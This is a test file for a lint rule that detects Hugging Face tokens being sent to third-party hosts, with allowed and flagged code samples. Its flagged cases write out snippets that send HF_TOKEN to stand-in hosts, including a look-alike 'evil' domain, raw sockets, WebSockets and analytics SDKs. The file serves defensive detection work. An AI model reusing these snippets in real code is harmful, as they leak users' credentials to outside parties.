import rule from "../../src/rules/no-token-to-third-party";
import { ruleDocsUrl } from "../../src/util/create-rule";
import { createRuleTester } from "../helpers/rule-tester";
import { makeToken } from "../helpers/tokens";

const ruleTester = createRuleTester();
const TOKEN = makeToken(71);
const docsUrl = ruleDocsUrl("no-token-to-third-party");

function sent(client: string, host: string, source = "HF_TOKEN") {
  return { messageId: "tokenSentToThirdParty", data: { client, source, host, docsUrl } } as const;
}

const BEARER = "`Bearer ${process.env.HF_TOKEN}`";

ruleTester.run("no-token-to-third-party", rule, {
  valid: [
    `const hub = axios.create({ baseURL: "https://huggingface.co/api", headers: { Authorization: \`Bearer \${process.env.HF_TOKEN}\` } });`,
    `const api = axios.create({ baseURL: "https://api.example.com" });`,
    // Connections to Hugging Face, to a host the code does not name, or that send no token; an \`io\` not from socket.io-client.
    `const ws = new WebSocket("wss://api-inference.huggingface.co/ws");\nws.send(process.env.HF_TOKEN);`,
    `const socket = net.connect(9000);\nsocket.write(process.env.HF_TOKEN);`,
    `const ws = new WebSocket("wss://relay.example.net/socket");\nws.send(JSON.stringify({ model: process.env.HF_MODEL }));`,
    // A nested \`function\` has its own \`this\`: not the instance's connection.
    `class Relay {\n  constructor() { this.ws = new WebSocket("wss://relay.example.net/socket"); }\n  auth() { function inner() { this.ws.send(process.env.HF_TOKEN); } return inner; }\n}`,
    `class Relay {\n  constructor() { this.ws = new WebSocket("wss://api-inference.huggingface.co/ws"); }\n  auth() { this.ws.send(process.env.HF_TOKEN); }\n}`,
    `function io(url) { return { emit() {} }; }\nconst socket = io("https://events.example.org");\nsocket.emit("auth", process.env.HF_TOKEN);`,
    // A vendor the team allows, a function of the same name from elsewhere, what hides the token.
    { code: `import * as Sentry from "@sentry/browser";\nSentry.setUser({ token: process.env.HF_TOKEN });`, options: [{ allowedHosts: ["sentry.io"] }] },
    `import { track } from "./analytics";\ntrack("x", { key: process.env.HF_TOKEN });`,
    `import posthog from "posthog-js";\nposthog.capture("login", { hasToken: Boolean(process.env.HF_TOKEN) });`,
    // Hugging Face's own hosts.
    `await needle("post", "https://router.huggingface.co/v1/chat/completions", { model: "m" }, { headers: { Authorization: ${BEARER} } });`,
    `needle.request("get", "https://huggingface.co/api/whoami-v2", null, { headers: { Authorization: ${BEARER} } }, () => {});`,
    `superagent("GET", "https://huggingface.co/api/whoami-v2").set("Authorization", ${BEARER}).end();`,
    `fetch("https://huggingface.co/api/whoami-v2", { headers: { Authorization: ${BEARER} } });`,
    `fetch("https://router.huggingface.co/v1/chat/completions", { headers: { Authorization: ${BEARER} } });`,
    `fetch("https://hf.co/api/models", { headers: { authorization: ${BEARER} } });`,
    `fetch("https://my-space.hf.space/run", { headers: { Authorization: ${BEARER} } });`,
    `fetch("https://abc123.us-east-1.aws.endpoints.huggingface.cloud", { headers: { Authorization: ${BEARER} } });`,
    `new WebSocket(\`wss://api-inference.huggingface.co/ws?token=\${process.env.HF_TOKEN}\`);`,
    // A URL the code does not spell out: no guessing.
    `fetch(endpoint, { headers: { Authorization: ${BEARER} } });`,
    `fetch(\`\${base}/v1/models\`, { headers: { Authorization: ${BEARER} } });`,
    `fetch("https://api." + domain + "/x", { headers: { Authorization: ${BEARER} } });`,
    `fetch("/api/proxy", { headers: { Authorization: ${BEARER} } });`,
    // An SDK client aimed at Hugging Face, or given no token.
    `const hf = new OpenAI({ apiKey: process.env.HF_TOKEN, baseURL: "https://router.huggingface.co/v1" });`,
    `const other = new OpenAI({ apiKey: process.env.OPENAI_API_KEY, baseURL: "https://api.openai.com/v1" });`,
    `const chat = new ChatOpenAI({ apiKey: process.env.HF_TOKEN, configuration: { baseURL: "https://router.huggingface.co/v1" } });`,
    // A base URL written elsewhere that is Hugging Face's.
    `const BASE = "https://huggingface.co/api"; fetch(\`\${BASE}/whoami-v2\`, { headers: { Authorization: ${BEARER} } });`,
    // Another host, but no token sent.
    `fetch("https://api.example.com/data", { headers: { Authorization: \`Bearer \${process.env.EXAMPLE_TOKEN}\` } });`,
    `fetch("https://api.example.com/data", { headers: { "X-Has-Token": String(Boolean(process.env.HF_TOKEN)) } });`,
    `axios.post("https://api.example.com/log", { event: "start" });`,
    // A function that happens to be called request, with no host.
    `request(options);`,
    // Options given first, or kept in a const: Hugging Face's host, a host with its port (not a host name), or no host at all.
    `https.request({ hostname: "huggingface.co", path: "/api/whoami-v2", headers: { Authorization: ${BEARER} } });`,
    `const options = { host: "hf.co", headers: { Authorization: ${BEARER} } };\nhttps.get(options, (response) => response.resume());`,
    `http.request({ host: "api.example.com:8080", headers: { Authorization: ${BEARER} } });`,
    `http.request({ path: "/x", headers: { Authorization: ${BEARER} } });`,
    // What is sent to another host carries no token: a callback, a const of other values, a check of the token.
    `const init = { method: "POST", headers: { "Content-Type": "application/json" } };\nfetch("https://api.example.com/x", init);`,
    `https.get("https://api.example.com/x", (response) => console.log(process.env.HF_TOKEN.length, response.statusCode));`,
    `const init = { headers: { "X-Token-Set": String(Boolean(process.env.HF_TOKEN)) } };\nfetch("https://api.example.com/x", init);`,
    // Client instances: aimed at Hugging Face, without a base URL the code spells out, or a call that sends nothing.
    `const hub = axios.create({ baseURL: "https://huggingface.co/api" });\nawait hub.get("/whoami-v2", { headers: { Authorization: ${BEARER} } });`,
    `const api = axios.create({ baseURL: process.env.API_URL });\nawait api.post("/x", { token: process.env.HF_TOKEN });`,
    `const api = axios.create({ baseURL: "https://api.example.com" });\napi.interceptors.request.use((config) => config);\napi.getUri({ params: { token: process.env.HF_TOKEN } });`,
    // Chained on a request to Hugging Face, or chaining what sends nothing.
    `await superagent.get("https://huggingface.co/api/whoami-v2").set("Authorization", ${BEARER});`,
    `await superagent.get("https://api.example.com/x").set("Accept", "json").timeout(process.env.HF_TOKEN.length);`,
    // A \`let\` written again is not followed.
    `let init = { headers: { Authorization: ${BEARER} } };\ninit = {};\nfetch("https://api.example.com/x", init);`,
    // The team's proxy, allowed by option.
    {
      code: `fetch("https://hf-proxy.internal.example.com/v1", { headers: { Authorization: ${BEARER} } });`,
      options: [{ allowedHosts: ["*.internal.example.com"] }],
    },
  ],
  invalid: [
    // What a request is given besides its URL, kept in a const: the options, the headers, the body.
    {
      code: `const init = { headers: { Authorization: ${BEARER} } };\nawait fetch("https://api.example.com/x", init);`,
      errors: [{ ...sent("fetch", "api.example.com", "init"), line: 2, column: 42 }],
    },
    {
      code: `const headers = { Authorization: ${BEARER} };\nawait fetch("https://api.example.com/x", { method: "POST", headers });`,
      errors: [{ ...sent("fetch", "api.example.com", "headers"), line: 2, column: 60 }],
    },
    {
      code: `const config = { headers: { Authorization: process.env.HF_TOKEN } };\nawait axios.get("https://api.example.com/x", config);`,
      errors: [sent("axios.get", "api.example.com", "config")],
    },
    // Every part of what is given is sent: query parameters, auth, a body that is no option.
    {
      code: `await axios.get("https://api.example.com/x", { params: { access_token: process.env.HF_TOKEN } });`,
      errors: [{ ...sent("axios.get", "api.example.com"), column: 72 }],
    },
    {
      code: `await axios.post("https://api.example.com/x", { token: process.env.HF_TOKEN });`,
      errors: [sent("axios.post", "api.example.com")],
    },
    {
      code: `await got.post("https://api.example.com/x", { json: { key: process.env.HF_TOKEN } });`,
      errors: [sent("got.post", "api.example.com")],
    },
    {
      code: `await axios({ url: "https://api.example.com/x", headers: { common: { Authorization: ${BEARER} } } });`,
      errors: [sent("axios", "api.example.com")],
    },
    // What is chained on a superagent request is sent with it.
    {
      code: `await superagent.post("https://api.example.com/x").set("Accept", "application/json").set("Authorization", ${BEARER}).send({ a: 1 });`,
      errors: [{ ...sent("superagent.post", "api.example.com"), column: 107 }],
    },
    {
      code: `superagent.get("https://api.example.com/x").query({ access_token: process.env.HF_TOKEN }).end(() => {});`,
      errors: [sent("superagent.get", "api.example.com")],
    },
    // Requests on a client instance go to its base URL, and send all they are given.
    {
      code: `const api = axios.create({ baseURL: "https://api.example.com" });\nawait api.post("/events", { token: process.env.HF_TOKEN });\nawait api.get("/health");`,
      errors: [{ ...sent("axios.create(…).post", "api.example.com"), line: 2 }],
    },
    {
      code: `const options = { prefixUrl: "https://collector.example.net" };\nconst client = got.extend(options);\nawait client.get("v1/models", { headers: { authorization: ${BEARER} } });`,
      errors: [{ ...sent("got.extend(…).get", "collector.example.net"), line: 3 }],
    },
    {
      code: `const api = ky.create({ prefixUrl: "https://api.example.com" });\nawait api.get(\`models?token=\${process.env.HF_TOKEN}\`);`,
      errors: [sent("ky.create(…).get", "api.example.com")],
    },
    {
      code: `class Uploader {\n  constructor() { this.http = axios.create({ baseURL: "https://uploads.example.org" }); }\n  send(file) { return this.http.put("/files", file, { headers: { Authorization: ${BEARER} } }); }\n}`,
      errors: [{ ...sent("axios.create(…).put", "uploads.example.org"), line: 3 }],
    },
    // Node's http.request(options): the host is named by \`hostname\` or \`host\`, in place or in a const.
    {
      code: `https.request({ hostname: "API.example.com", path: "/x", method: "POST", headers: { Authorization: ${BEARER} } });`,
      errors: [sent("https.request", "api.example.com")],
    },
    {
      code: `const options = { host: "collector.example.net", headers: { authorization: process.env.HF_TOKEN } };\nhttp.get(options, (response) => response.resume());`,
      errors: [{ ...sent("http.get", "collector.example.net", "options"), line: 2, column: 10 }],
    },
    // What a connection opened to another host sends there (src/catalogue/requests.ts connections).
    {
      code: `const ws = new WebSocket("wss://relay.example.net/socket");\nws.onopen = () => ws.send(JSON.stringify({ auth: process.env.HF_TOKEN }));`,
      errors: [sent("new WebSocket(…).send", "relay.example.net")],
    },
    {
      code: `const ws = new WebSocket("wss://relay.example.net/socket?token=" + process.env.HF_TOKEN);\nws.send(process.env.HF_TOKEN);`,
      // The URL is reported where the socket is made; the send, where it sends.
      errors: [{ ...sent("new WebSocket", "relay.example.net"), line: 1 }, { ...sent("new WebSocket(…).send", "relay.example.net"), line: 2 }],
    },
    {
      code: `import { io } from "socket.io-client";\nconst socket = io("https://events.example.org");\nsocket.emit("auth", { token: process.env.HF_TOKEN });`,
      errors: [sent("io(…).emit/send", "events.example.org")],
    },
    {
      code: `const net = require("node:net");\nconst socket = net.connect(9000, "logs.example.net");\nsocket.write(process.env.HF_TOKEN + "\\n");`,
      errors: [sent("net.connect(…).write/end", "logs.example.net")],
    },
    {
      code: "const tls = require(\"tls\");\nconst s = tls.connect({ host: \"logs.example.net\", port: 6514 });\ns.end(`token=${process.env.HF_TOKEN}`);",
      errors: [sent("tls.connect(…).write/end", "logs.example.net")],
    },
    // A connection kept in a field: what the class's methods send through \`this.ws\`.
    {
      code: `class Relay {\n  constructor() { this.ws = new WebSocket("wss://relay.example.net/socket"); }\n  auth() { this.ws.send(JSON.stringify({ token: process.env.HF_TOKEN })); }\n}`,
      errors: [{ ...sent("new WebSocket(…).send", "relay.example.net"), line: 3 }],
    },
    {
      code: `const net = require("net");\nclass Shipper {\n  open() { this.socket = net.connect({ host: "logs.example.net", port: 514 }); }\n  ship = () => this.socket.write(process.env.HF_TOKEN);\n}`,
      errors: [{ ...sent("net.connect(…).write/end", "logs.example.net"), line: 4 }],
    },
    // SDK clients created with the token and an endpoint elsewhere (src/catalogue/requests.ts client options).
    {
      code: `const client = new OpenAI({ apiKey: process.env.HF_TOKEN, baseURL: "https://api.together.xyz/v1" });`,
      errors: [sent("new OpenAI", "api.together.xyz")],
    },
    {
      code: `const groq = createOpenAI({ baseURL: "https://api.groq.com/openai/v1", headers: { Authorization: ${BEARER} } });`,
      errors: [sent("createOpenAI", "api.groq.com")],
    },
    {
      code: `const chat = new ChatOpenAI({ apiKey: process.env.HF_TOKEN, configuration: { baseURL: "https://openrouter.ai/api/v1" } });`,
      errors: [sent("new ChatOpenAI", "openrouter.ai")],
    },
    {
      code: `const { HF_TOKEN } = process.env;\nconst ollama = new Ollama({ host: "http://gpu-box.example.net:11434", headers: { Authorization: \`Bearer \${HF_TOKEN}\` } });`,
      errors: [sent("new Ollama", "gpu-box.example.net")],
    },
    // URLs written in a const, a template starting with one, or a URL's base.
    {
      code: `const API = "https://collector.example.net/v1";\nfetch(API, { headers: { Authorization: ${BEARER} } });`,
      errors: [sent("fetch", "collector.example.net")],
    },
    {
      code: `const BASE = "https://collector.example.net";\nfetch(\`\${BASE}/ingest\`, { headers: { Authorization: ${BEARER} } });`,
      errors: [sent("fetch", "collector.example.net")],
    },
    {
      code: `fetch(new URL("/ingest", "https://collector.example.net"), { headers: { Authorization: ${BEARER} } });`,
      errors: [sent("fetch", "collector.example.net")],
    },
    // Clients from the catalogue.
    {
      code: `ky.post("https://collector.example.net", { headers: { Authorization: ${BEARER} } });`,
      errors: [sent("ky.post", "collector.example.net")],
    },
    {
      code: `needle.post("https://collector.example.net", {}, { headers: { Authorization: ${BEARER} } });`,
      errors: [sent("needle.post", "collector.example.net")],
    },
    // needle and superagent called with the HTTP method first send to their second argument (needle's readme, superagent's docs).
    {
      code: `await needle("post", "https://collector.example.net/v1", { input: "hi" }, { headers: { Authorization: ${BEARER} } });`,
      errors: [sent("needle", "collector.example.net")],
    },
    { code: `needle.request("put", "https://collector.example.net/v1", { token: process.env.HF_TOKEN }, (error, response) => {});`, errors: [sent("needle.request", "collector.example.net")] },
    { code: `superagent("POST", "https://api.example.com/x").set("Authorization", ${BEARER}).end();`, errors: [sent("superagent", "api.example.com")] },
    { code: "superagent(`https://api.example.com/x?token=${process.env.HF_TOKEN}`, (error, response) => {});", errors: [sent("superagent", "api.example.com")] },
    { code: `navigator.sendBeacon("https://collect.example.com/t", process.env.HF_TOKEN);`, errors: [sent("navigator.sendBeacon", "collect.example.com")] },
    // Error-tracking and analytics SDKs send what they are given to their vendor.
    {
      code: `import * as Sentry from "@sentry/node";\nconst config = { model: "m", token: process.env.HF_TOKEN };\nSentry.setContext("config", config);`,
      errors: [sent("Sentry.setContext", "sentry.io", "config")],
    },
    { code: `import { track } from "@vercel/analytics/server";\nawait track("generated", { key: process.env.HF_TOKEN });`, errors: [sent("track", "vercel.com")] },
    { code: `https.request("https://api.example.com/v1", { headers: { Authorization: ${BEARER} } });`, errors: [sent("https.request", "api.example.com")] },
    { code: `http.get("http://api.example.com/v1", { headers: { authorization: process.env.HF_TOKEN } });`, errors: [sent("http.get", "api.example.com")] },
    { code: `const request = new Request("https://api.example.com/v1", { headers: { Authorization: ${BEARER} } });`, errors: [sent("new Request", "api.example.com")] },
    { code: `fetch("https://api.example.com/v1", { method: "POST", body: process.env.HF_TOKEN });`, errors: [sent("fetch", "api.example.com")] },
    { code: `$.ajax({ url: "https://api.example.com/v1", headers: { Authorization: ${BEARER} } });`, errors: [sent("$.ajax", "api.example.com")] },
    { code: "superagent.get(`https://api.example.com/v1?token=${process.env.HF_TOKEN}`);", errors: [sent("superagent.get", "api.example.com")] },
    {
      name: "an axios instance: every request sends the header to its baseURL",
      code: `const api = axios.create({ baseURL: "https://api.example.com", headers: { Authorization: ${BEARER} } });`,
      errors: [sent("axios.create", "api.example.com")],
    },
    {
      name: "axios common headers",
      code: `const api = axios.create({ baseURL: "https://api.example.com", headers: { common: { Authorization: ${BEARER} } } });`,
      errors: [sent("axios.create", "api.example.com")],
    },
    {
      name: "ky.create and got.extend with prefixUrl",
      code: `const a = ky.create({ prefixUrl: "https://a.example.com", headers: { Authorization: ${BEARER} } });\nconst b = got.extend({ prefixUrl: "https://b.example.com", headers: { authorization: ${BEARER} } });`,
      errors: [sent("ky.create", "a.example.com"), sent("got.extend", "b.example.com")],
    },
    {
      name: "fetch with an Authorization header",
      code: `fetch("https://api.example.com/v1/chat", { headers: { Authorization: ${BEARER} } });`,
      errors: [sent("fetch", "api.example.com")],
    },
    {
      name: "fetch with a Headers instance, from a const binding",
      code: `const token = process.env.HF_TOKEN;\nawait fetch("https://collector.example.net/x", { method: "POST", headers: new Headers({ authorization: "Bearer " + token }) });`,
      errors: [sent("fetch", "collector.example.net", "token")],
    },
    {
      name: "Headers built from pairs",
      code: `fetch("https://api.example.com", { headers: new Headers([["Authorization", \`Bearer \${process.env.HUGGINGFACEHUB_API_TOKEN}\`]]) });`,
      errors: [sent("fetch", "api.example.com", "HUGGINGFACEHUB_API_TOKEN")],
    },
    {
      name: "token in the query string",
      code: `fetch(\`https://analytics.example.com/track?token=\${process.env.HF_TOKEN}\`);`,
      errors: [sent("fetch", "analytics.example.com")],
    },
    {
      name: "access_token in a concatenated URL",
      code: `const { HF_TOKEN } = process.env;\nfetch("https://api.example.com/a?access_token=" + HF_TOKEN);`,
      errors: [sent("fetch", "api.example.com")],
    },
    {
      name: "axios with a config object",
      code: `axios({ url: "https://api.example.com/x", headers: { Authorization: ${BEARER} } });`,
      errors: [sent("axios", "api.example.com")],
    },
    {
      name: "axios.post with data and config",
      code: `axios.post("https://api.example.com/x", { q: 1 }, { headers: { Authorization: ${BEARER} } });`,
      errors: [sent("axios.post", "api.example.com")],
    },
    {
      name: "got",
      code: `got.get("https://api.example.com/x", { headers: { authorization: ${BEARER} } });`,
      errors: [sent("got.get", "api.example.com")],
    },
    {
      name: "ky",
      code: `ky("https://api.example.com/x", { headers: { Authorization: ${BEARER} } });`,
      errors: [sent("ky", "api.example.com")],
    },
    {
      name: "undici request",
      code: `import { request } from "undici";\nawait request("https://api.example.com/x", { headers: { authorization: ${BEARER} } });`,
      errors: [sent("request", "api.example.com")],
    },
    {
      name: "new URL with the token in its query",
      code: `const url = new URL(\`https://api.example.com/x?token=\${import.meta.env.HF_TOKEN}\`);`,
      errors: [sent("new URL", "api.example.com")],
    },
    {
      name: "WebSocket",
      code: `new WebSocket(\`wss://stream.example.com/socket?token=\${process.env.HF_TOKEN}\`);`,
      errors: [sent("new WebSocket", "stream.example.com")],
    },
    {
      name: "a literal token",
      code: `fetch("https://api.example.com/x", { headers: { Authorization: "Bearer ${TOKEN}" } });`,
      errors: [sent("fetch", "api.example.com", "a literal token")],
    },
    {
      name: "a look-alike host is not Hugging Face",
      code: `fetch("https://huggingface.co.evil.example/x", { headers: { Authorization: ${BEARER} } });\nfetch("https://nothuggingface.co/x", { headers: { Authorization: ${BEARER} } });`,
      errors: [sent("fetch", "huggingface.co.evil.example"), sent("fetch", "nothuggingface.co")],
    },
    {
      name: "Deno's env and a .ts file",
      filename: "client.ts",
      code: `await fetch("https://api.example.com/x" as string, { headers: { Authorization: \`Bearer \${Deno.env.get("HF_TOKEN")}\` } as HeadersInit });`,
      errors: [sent("fetch", "api.example.com")],
    },
    {
      name: "an allowed host does not allow others",
      code: `fetch("https://api.example.com/x", { headers: { Authorization: ${BEARER} } });`,
      options: [{ allowedHosts: ["proxy.example.com"] }],
      errors: [sent("fetch", "api.example.com")],
    },
  ],
});
